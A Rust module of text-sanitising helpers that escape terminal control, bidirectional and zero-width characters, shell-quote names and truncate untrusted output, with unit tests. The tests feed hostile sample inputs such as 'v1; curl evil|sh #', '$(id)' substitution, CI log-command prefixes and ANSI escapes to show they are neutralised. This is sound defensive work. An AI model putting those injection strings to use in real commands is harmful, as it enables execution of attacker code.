//! Text from outside, made fit for a terminal, a log line or a shell.

/// The first line of a text for people, without the characters that may do anything to a terminal
/// or hide something, and cut where it is long.
#[must_use]
pub fn short(text: &str, chars_max: usize) -> String {
    let line = text.trim().lines().next().unwrap_or_default();
    let is_seen = |c: &char| !c.is_control() && !is_unseen(*c);
    let mut chars = line.chars().filter(is_seen);
    let mut shown: String = chars.by_ref().take(chars_max).collect();
    if chars.next().is_some() {
        shown.push('…');
    }
    shown
}

/// So much of a text of somebody else's is kept: events carry what the instances' own commands
/// print.
const FOREIGN_CHARS_MAX: usize = 2_000;

/// A text of somebody else's on one line, with its control characters written out, which may do
/// anything to a terminal, or begin a line that a CI system takes for a command; and cut where it
/// is long.
#[must_use]
pub fn foreign(text: &str) -> String {
    let text = text.trim();
    match text.char_indices().nth(FOREIGN_CHARS_MAX) {
        Some((end, _)) => on_one_line(&text[..end]) + "…",
        None => on_one_line(text),
    }
}

/// Whether a character shows nothing itself and changes how others are shown: breaks of lines and
/// paragraphs, and the format characters that change the direction of writing or have no width
/// (Unicode, general categories Zl, Zp and Cf; UTR 36, "bidirectional text spoofing").
#[must_use]
pub fn is_unseen(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{600}'..='\u{605}' | '\u{61c}' | '\u{6dd}' | '\u{70f}' | '\u{180e}'
        | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
        | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// All of such a text, with the characters written out that control or hide something.
#[must_use]
pub fn on_one_line(text: &str) -> String {
    let mut shown = String::new();
    for c in text.chars() {
        match c.is_control() || is_unseen(c) {
            true => shown.extend(c.escape_default()),
            false => shown.push(c),
        }
    }
    shown
}

/// A name as a word of a command that an operator pastes into a shell: quoted where it holds what a
/// shell would take for something else.
#[must_use]
pub fn for_shell(name: &str) -> String {
    let name = on_one_line(name);
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_.:/@%+=,-".contains(c);
    match !name.is_empty() && name.chars().all(is_plain) {
        true => name,
        false => format!("'{}'", name.replace('\'', "'\\''")),
    }
}

/// The last bytes of a text, no more than `bytes_max` and from a character's begin.
#[must_use]
pub fn end_of(text: &str, bytes_max: usize) -> &str {
    let mut from = text.len().saturating_sub(bytes_max);
    while !text.is_char_boundary(from) {
        from += 1;
    }
    &text[from..]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_of_somebody_elses_moves_no_terminal_and_begins_no_line() {
        let told = foreign("failed\r\n::error::\u{1b}[31mred\u{9b}0m \u{7}");
        assert_eq!(told, "failed\\r\\n::error::\\u{1b}[31mred\\u{9b}0m \\u{7}");
        assert_eq!(foreign(" 한국어 v2 \n"), "한국어 v2");
        // What turns the direction of writing, ends a line elsewhere, or has no width.
        let told = foreign("a\u{202e}b\u{2028}##vso[x]\u{200b}c");
        assert_eq!(told, "a\\u{202e}b\\u{2028}##vso[x]\\u{200b}c");
        let long = foreign(&"x".repeat(100_000));
        assert_eq!(long.chars().count(), FOREIGN_CHARS_MAX + 1);
    }

    #[test]
    fn a_name_is_one_word_of_a_shell() {
        for name in [
            "shop-blue",
            "2024/v1.2+3",
            "v1; curl evil|sh #",
            "it's $(id) `id`",
            "",
            "~",
            "한국어",
        ] {
            let printed = std::process::Command::new("sh")
                .args(["-c", &format!("printf '<%s>' {}", for_shell(name))])
                .output()
                .expect("sh runs");
            assert_eq!(
                String::from_utf8_lossy(&printed.stdout),
                format!("<{name}>")
            );
        }
        assert_eq!(for_shell("shop-blue"), "shop-blue");
        assert_eq!(for_shell("a\nb"), "'a\\nb'");
    }

    #[test]
    fn a_line_for_people_is_short_and_plain() {
        assert_eq!(short("\u{1b}[31mr\u{202e}ed\u{7}\nnext", 80), "[31mred");
        assert_eq!(
            (short("éàü", 2).as_str(), short("éà", 2).as_str()),
            ("éà…", "éà")
        );
        assert_eq!(
            (end_of("aé", 1), end_of("aé", 2), end_of("a", 9)),
            ("", "é", "a")
        );
    }
}
